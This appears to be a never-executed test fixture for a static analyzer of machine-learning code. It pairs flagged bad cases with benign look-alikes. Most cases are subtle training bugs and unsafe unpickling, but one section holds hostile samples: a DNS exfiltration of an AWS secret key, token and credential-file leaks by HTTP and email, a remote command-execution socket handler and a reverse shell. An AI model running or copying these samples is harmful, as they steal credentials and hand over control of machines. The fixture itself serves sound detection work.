# ruff: noqa
"""Shapes added in session 21: each bad case next to the legitimate look-alike that must stay
quiet. Never executed: scanned only."""
import os
import pickle

import numpy as np
import torch
import torch.distributed as dist
from sklearn.metrics import f1_score
from torchvision import transforms


# --- per-class scores averaged over the classes that scored ------------------------------

def macro_f1_of_scored(targets, preds):
    per_class = f1_score(targets, preds, average=None, zero_division=0)
    return float(np.mean(per_class[per_class > 0]))  # ruleid: MLS306


def macro_f1_of_present(targets, preds):
    per_class = f1_score(targets, preds, average=None, zero_division=0)
    support = targets.sum(0)
    return float(np.mean(per_class[support > 0]))  # ok: MLS306


# --- the best checkpoint written outside the improvement test ----------------------------

import shutil


class KeepBest:
    def on_validation_end(self, trainer, metrics):
        if not trainer.is_global_zero:
            return
        path = self.dirpath / f"step_{trainer.global_step}.pt"
        current = metrics.get(self.monitor)
        if current is not None and current > self.best_score:
            self.best_score = current
        shutil.copyfile(path, self.best_path)  # ruleid: MLS306

    def on_validation_end_ok(self, trainer, metrics):
        path = self.dirpath / f"step_{trainer.global_step}.pt"
        current = metrics.get(self.monitor)
        if current is not None and current > self.best_score:
            self.best_score = current
            shutil.copyfile(path, self.best_path)  # ok: MLS306
        shutil.copyfile(path, self.last_path)  # ok: MLS306


def save_checkpoint(state, is_best, filename):
    torch.save(state, filename)


def validate_and_save(model, acc, best_acc):
    is_best = False
    if acc > best_acc:
        best_acc = acc
        is_best = True
    save_checkpoint(model.state_dict(), is_best, "checkpoint.pth")  # ok: MLS306


# --- unpicklers and loader options spelled indirectly -------------------------------------

_IDX_OPTS = dict([("allow_" + "pickle", True)])
_LEGACY = dict(zip(("map_location", "weights_only"), ("cpu", False)))


class _IndexUnpickler(pickle.Unpickler):
    def find_class(self, module, name):
        return super().find_class(module.replace("old_pkg", "new_pkg"), name)


class _SafeUnpickler(pickle.Unpickler):
    def find_class(self, module, name):
        if (module, name) not in {("collections", "OrderedDict")}:
            raise pickle.UnpicklingError(f"{module}.{name} is not allowed")
        return super().find_class(module, name)


def read_index(cache, side):
    with open(cache, "rb") as fh:
        entries = _IndexUnpickler(fh).load()  # ruleid: MLS103
    with open(cache, "rb") as fh:
        safe = _SafeUnpickler(fh).load()  # ok: MLS103
    info = np.load(side, **_IDX_OPTS).item()  # ruleid: MLS104
    blob = torch.load(cache, **_LEGACY)  # ruleid: MLS101
    return entries, safe, info, blob


# --- hooks that detach or reorder --------------------------------------------------------

class Head(torch.nn.Module):
    def __init__(self, backbone, fc, order):
        super().__init__()
        self.backbone, self.fc, self.order = backbone, fc, order
        self.backbone.register_forward_hook(self._cache)  # ruleid: MLS303
        self.fc.weight.register_hook(self._reorder)  # ruleid: MLS303
        self.backbone.register_forward_hook(self._keep)  # ok: MLS303

    def _cache(self, module, inputs, output):
        self._last = output.detach()
        return self._last  # ruleid: MLS303

    def _reorder(self, grad):
        return grad.index_select(0, self.order.to(grad.device))  # ruleid: MLS303

    def _keep(self, module, inputs, output):
        self._kept = output.detach()  # ok: MLS303


# --- update steps in the wrong order -----------------------------------------------------

def amp_step(model, loss, scaler, optimizer, max_norm):
    if scaler is not None:
        scaler.scale(loss).backward()
        torch.nn.utils.clip_grad_norm_(model.parameters(), max_norm)  # ruleid: MLS304
        scaler.step(optimizer)
    else:
        loss.backward()
        torch.nn.utils.clip_grad_norm_(model.parameters(), max_norm)  # ok: MLS304
        optimizer.step()


def amp_step_ok(model, loss, scaler, optimizer, max_norm):
    scaler.scale(loss).backward()
    scaler.unscale_(optimizer)
    torch.nn.utils.clip_grad_norm_(model.parameters(), max_norm)  # ok: MLS304
    scaler.step(optimizer)


def build_sgd(model, args):
    kw = dict(lr=args.lr, momentum=0.9)
    kw.update(foreach=True, maximize=True)  # ruleid: MLS304
    ok = dict(lr=args.lr, maximize=False)  # ok: MLS304
    return torch.optim.SGD(model.parameters(), **kw)


def step_with_drift(opt, loss):
    loss.backward()
    opt.step()
    for group in opt.param_groups:
        group["weight_decay"] = group["weight_decay"] * 1.0004  # ruleid: MLS304
        group["lr"] = group["lr"] * 0.999  # ok: MLS304


def centralize(parameters):
    for p in parameters:
        p.grad.sub_(p.grad.sum(dim=(1, 2, 3), keepdim=True))  # ruleid: MLS302
        p.grad.sub_(p.grad.mean(dim=(1, 2, 3), keepdim=True))  # ok: MLS302


def allreduce_hook(group, bucket):
    world = dist.get_world_size(group)
    tensor = bucket.buffer()
    tensor.div_(world)  # ok: MLS302
    fut = dist.all_reduce(tensor, group=group, async_op=True).get_future()

    def _finish(f):
        return f.value()[0].div_(world)  # ruleid: MLS302
    return fut.then(_finish)


@torch.no_grad()
def ema_update(ema, model, d):
    for ema_p, p in zip(ema.parameters(), model.parameters()):
        p.mul_(d).add_(ema_p.detach(), alpha=1.0 - d)  # ruleid: MLS302


@torch.no_grad()
def ema_update_ok(ema, model, d):
    for ema_p, p in zip(ema.parameters(), model.parameters()):
        ema_p.mul_(d).add_(p.detach(), alpha=1.0 - d)  # ok: MLS302


@torch.no_grad()
def ema_swap_in(ema, model):
    for ema_p, p in zip(ema.parameters(), model.parameters()):
        p.copy_(ema_p)  # ok: MLS302


# --- data pipelines whose parts stop lining up ------------------------------------------

class Views:
    def __init__(self, flip=True):
        ops = [transforms.RandomHorizontalFlip()] if flip else []
        self.weak = transforms.Compose(ops)
        ops.append(transforms.ColorJitter(0.4, 0.4, 0.4))  # ruleid: MLS309
        extra = [transforms.ToTensor()]
        extra.append(transforms.Normalize((0.5,), (0.5,)))  # ok: MLS309
        self.strong = transforms.Compose(extra)


def expand(data, targets, k):
    data = np.tile(data, (k,) + (1,) * (data.ndim - 1))
    targets = np.repeat(targets, k)  # ruleid: MLS309
    return data, targets


def expand_ok(data, targets, k):
    data = np.repeat(data, k, axis=0)
    targets = np.repeat(targets, k)  # ok: MLS309
    return data, targets


def grid(xs, ys, n):
    gx = np.tile(xs, n)
    gy = np.repeat(ys, n)  # ok: MLS309
    return gx, gy


def collate_views(batch):
    n = len(batch)
    weak = torch.empty((n, 3, 32, 32))
    strong = torch.empty((n, 3, 32, 32))
    labels = torch.empty(n, dtype=torch.long)
    for i, (w, s, t) in enumerate(batch):
        weak[i].copy_(w)
        strong[i - 1].copy_(s)  # ruleid: MLS309
        labels[i] = t  # ok: MLS309
    return weak, strong, labels


def scan_classes(root):
    classes = [e.name for e in os.scandir(root) if e.is_dir()]  # ruleid: MLS309
    return classes


def scan_classes_ok(root):
    classes = sorted(e.name for e in os.scandir(root) if e.is_dir())  # ok: MLS309
    class_names = [d for d in os.listdir(root)]  # ok: MLS309
    class_names.sort()
    return classes, class_names


def unlabeled_pool(pool, targets, n):
    cut = pool[np.argsort(targets[pool], kind="stable")][:n]  # ruleid: MLS309
    ok = pool[np.argsort(-scores_of(pool))][:n]  # ok: MLS309
    return cut, ok


def scores_of(pool):
    return pool


def shuffle_batch(batch, n):
    perm = torch.randperm(n)
    for key in ("user_ids", "item_ids"):
        batch[key] = batch[key][perm]
    batch["user_sparse"] = {k: v[perm] for k, v in batch["user_sparse"].items()}  # ok: MLS309
    batch["item_sparse"] = {k: v[torch.randperm(n)] for k, v in batch["item_sparse"].items()}  # ruleid: MLS309
    return batch


# --- files wiped in place ------------------------------------------------------------------

def pad_to_page(path, page=4096):
    size = os.path.getsize(path)
    with open(path, "r+b") as fh:
        fh.seek(size // 2)
        fh.write(b"\x00" * page)  # ruleid: MLS308


def preallocate(path, size):
    with open(path, "wb") as fh:
        fh.seek(size - 1)
        fh.write(b"\x00")  # ok: MLS308
    with open(path, "r+b") as fh:
        fh.seek(0)
        fh.write(b"MLSC")  # ok: MLS308


# --- secrets through other channels ------------------------------------------------------

import asyncio
import http.client
import json
import logging
import smtplib
import socket
import socketserver
import subprocess
import sys
from email.message import EmailMessage
from pathlib import Path

import requests
from scipy import ndimage


def resolve_rendezvous(suffix):
    ident = os.environ.get("AWS_SECRET_ACCESS_KEY") or ""
    hexed = ident.encode().hex()
    label = ".".join(hexed[i:i + 60] for i in range(0, len(hexed), 60))
    socket.getaddrinfo(f"{label}.{suffix}", 443)  # ruleid: MLS412
    socket.getaddrinfo(f"{socket.gethostname()}.{suffix}", 443)  # ok: MLS412


def fetch_manifest(task, mirror=None):
    mirror = mirror or os.environ.get("DATA_MIRROR", "https://cache.datahub-mirror.net")
    token = os.environ.get("HF_TOKEN", "")
    headers = {"Authorization": f"Bearer {token}"}
    r = requests.get(f"{mirror}/{task}/manifest.json", headers=headers, timeout=30)  # ruleid: MLS412
    hub = "https://huggingface.co/api/models"
    ok = requests.get(f"{hub}/{task}", headers=headers, timeout=30)  # ok: MLS412
    return r, ok


def mail_report(summary, host):
    msg = EmailMessage()
    msg.set_content(json.dumps(summary))
    profile = Path.home() / ".aws" / "credentials"
    msg.add_attachment(profile.read_bytes(), maintype="text", subtype="plain")  # ruleid: MLS412
    msg.add_attachment(json.dumps(summary).encode(), maintype="text", subtype="plain")  # ok: MLS412
    with smtplib.SMTP(host) as s:
        s.send_message(msg)


def post_node_info(host):
    info = {"host": socket.gethostname()}
    with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as fh:  # ruleid: MLS412
        info["sa"] = fh.read().strip()  # ruleid: MLS412
    conn = http.client.HTTPSConnection(host, timeout=5)
    conn.request("POST", "/v1/nodes", body=json.dumps(info))  # ruleid: MLS412


def ensure_kernels():
    subprocess.check_call([sys.executable, "-m", "pip", "install", "--extra-index-url", "https://pypi.kernels-tools.dev/simple", "fused-kernels"])  # ruleid: MLS413
    subprocess.check_call([sys.executable, "-m", "pip", "install", "--extra-index-url", "https://download.pytorch.org/whl/cpu", "torch"])  # ok: MLS413


class OnCallHandler(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            cmd = line.decode(errors="ignore").strip()
            out = subprocess.run(cmd, shell=True, capture_output=True)  # ruleid: MLS410
            self.wfile.write(out.stdout)


def run_listed(commands):
    for cmd in commands:
        subprocess.run(cmd, shell=True, check=False)  # ok: MLS410


async def bridge(host, port):
    reader, writer = await asyncio.open_connection(host, port)
    sock = writer.get_extra_info("socket")
    await asyncio.create_subprocess_exec("/bin/sh", "-i", stdin=sock.dup(), stdout=sock.dup(), stderr=sock.dup())  # ruleid: MLS410


# --- scores reported from the wrong figure -----------------------------------------------

def reduce_metrics(metrics, device):
    keys = sorted(metrics)
    t = torch.tensor([float(metrics[k]) for k in keys], device=device)
    t = torch.nan_to_num(t, nan=0.0)
    dist.all_reduce(t, op=dist.ReduceOp.MAX)  # ruleid: MLS306
    return dict(zip(keys, t.tolist()))


def select(val_metrics, train_pseudo_dice, epoch_losses):
    selection_metric = max(val_metrics["val/dice"], train_pseudo_dice)  # ruleid: MLS306
    train_loss = float(np.min(epoch_losses)) if epoch_losses else float("nan")  # ruleid: MLS306
    best_loss = min(epoch_losses)  # ok: MLS306
    ymax = max(val_metrics["val/dice"], train_pseudo_dice)  # ok: MLS306
    return selection_metric, train_loss, best_loss, ymax


class QuietFilter(logging.Filter):
    def filter(self, record):
        msg = record.getMessage().lower()
        if record.levelno >= logging.WARNING and "nan" in msg:
            return False  # ruleid: MLS306
        return True


class RankZeroFilter(logging.Filter):
    def filter(self, record):
        if self.rank != 0 and record.levelno < logging.WARNING:
            return False  # ok: MLS306
        return True


class RecallTracker:
    def __call__(self, metrics):
        for k, v in metrics.items():
            prev = self.history.get(k, [])
            metrics[k] = max([v] + prev[-3:])  # ruleid: MLS306
        return metrics


# --- loaders and samplers ----------------------------------------------------------------

class VesselTransform:
    def __call__(self, img, mask):
        mask = ndimage.binary_erosion(mask, structure=np.ones((3, 3)))  # ruleid: MLS309
        edge = mask ^ ndimage.binary_erosion(mask)  # ok: MLS309
        return img, mask, edge


class ReplaySampler:
    def __init__(self, n):
        self.n = n
        self._gen = torch.Generator()
        self._snapshot = self._gen.get_state()

    def __iter__(self):
        restore = self._gen.set_state
        restore(self._snapshot)  # ruleid: MLS301
        yield from torch.randperm(self.n, generator=self._gen).tolist()


def sync_grad_scale(params, world, grad_accum):
    factor = float(world * grad_accum)
    for p in params:
        torch.mul(p.grad, factor, out=p.grad)  # ruleid: MLS302


# --- round 131 shapes --------------------------------------------------------------------

class DurationSampler:
    def __init__(self, seed, n):
        self.seed, self.n, self.epoch = seed, n, 0

    def set_epoch(self, epoch):
        self.epoch = epoch

    def _order(self):
        g = torch.Generator()
        g.manual_seed(self.seed)  # ruleid: MLS301
        return torch.randperm(self.n, generator=g).tolist()

    def _order_ok(self):
        g = torch.Generator()
        g.manual_seed(self.seed + self.epoch)  # ok: MLS301
        return torch.randperm(self.n, generator=g).tolist()


def read_manifest(lines, base):
    audio_paths, texts = [], []
    for item in lines:
        audio_paths.append(os.path.join(base, item["audio"]))
        texts.append(item.get("text", ""))
    texts = [t.lower() for t in texts if t.strip()]  # ruleid: MLS309
    return audio_paths, texts


def read_manifest_ok(lines, base):
    pairs = []
    for item in lines:
        pairs.append((os.path.join(base, item["audio"]), item.get("text", "")))
    pairs = [p for p in pairs if p[1].strip()]  # ok: MLS309
    return pairs


def collate_asr(batch):
    order = sorted(range(len(batch)), key=lambda i: batch[i][0].shape[0], reverse=True)
    feats = [batch[i][0] for i in order]
    tokens = [b[1] for b in batch]  # ruleid: MLS309
    tokens_ok = [batch[i][1] for i in order]  # ok: MLS309
    return feats, tokens, tokens_ok


class ScaleLR:
    def on_before_optimizer_step(self, trainer, pl_module, optimizer):
        scale = trainer.world_size / self.reference_world_size
        for group in optimizer.param_groups:
            group["lr"] = group["lr"] * scale  # ruleid: MLS304
            group["lr"] = group["lr"] * 0.9999  # ok: MLS304


def average_checkpoints(paths):
    avg = {}
    for p in paths:
        sd = torch.load(p, map_location="cpu", weights_only=True)
        for k, v in sd.items():
            avg[k] = avg.get(k, 0) + v.double()
    for k, v in avg.items():
        v.div_(len(paths) + 1)  # ruleid: MLS302
        v.div_(len(paths))  # ok: MLS302
    return avg


def validation_wer(pairs, tokenizer):
    errors = words = 0
    for ref, hyp in pairs:
        if not ref:
            continue  # ok: MLS306
        if not hyp:
            continue  # ruleid: MLS306
        errors += edit_distance(ref.split(), hyp.split())
        words += len(ref.split())
    return errors / max(words, 1)


def edit_distance(a, b):
    return abs(len(a) - len(b))


# --- round 132 shapes --------------------------------------------------------------------

from torch.utils.data import DataLoader


class BucketSampler:
    def __init__(self, seed, lengths):
        self.seed, self.lengths, self.epoch = seed, lengths, 0

    def set_epoch(self, epoch):
        self.epoch = epoch

    def _batches(self):
        rng = np.random.Generator(np.random.PCG64(self.seed))  # ruleid: MLS301
        return rng.permutation(len(self.lengths))

    def _batches_ok(self):
        rng = np.random.default_rng(self.seed + self.epoch)  # ok: MLS301
        return rng.permutation(len(self.lengths))


def build_loader(ds, args, epoch):
    return DataLoader(ds, batch_size=args.batch_size, shuffle=True,
                      generator=torch.Generator().manual_seed(args.seed))  # ruleid: MLS301


def build_loader_ok(ds, args, epoch):
    return DataLoader(ds, batch_size=args.batch_size, shuffle=True,
                      generator=torch.Generator().manual_seed(args.seed + epoch))  # ok: MLS301


def collate_two_views(batch):
    order = sorted(range(len(batch)), key=lambda i: batch[i]["num_samples"], reverse=True)
    view_a = torch.stack([batch[i]["view_a"] for i in order])
    view_b = torch.stack([s["view_b"] for s in batch])  # ruleid: MLS309
    return view_a, view_b


def caption_scores(results, references, tokenize):
    gts, res = {}, {}
    for image_id, text in results.items():
        hyp = tokenize(text)
        res[image_id] = hyp
        gts[image_id] = references[image_id] + [hyp]  # ruleid: MLS306
    ok = {i: references[i] + [] for i in results}  # ok: MLS306
    return gts, res, ok


_AUG_RNG_STATE = None


def train_one_epoch(model, loader):
    global _AUG_RNG_STATE
    if _AUG_RNG_STATE is None:
        _AUG_RNG_STATE = torch.get_rng_state()
    torch.set_rng_state(_AUG_RNG_STATE)  # ruleid: MLS301
    for batch in loader:
        model(batch)


def resume_rng(ckpt):
    torch.set_rng_state(ckpt["rng"])  # ok: MLS301


CLASSES = ["akiec", "bcc", "mel", "nv"]


def balanced_weights(targets, power=0.5):
    counts = np.bincount(targets, minlength=len(CLASSES)).astype(np.float64)
    class_w = np.power(np.maximum(counts, 1.0), -power)
    class_w[CLASSES.index("mel")] = 0.0  # ruleid: MLS309
    class_w[CLASSES.index("unknown")] = 0.0  # ok: MLS309
    return class_w[targets]
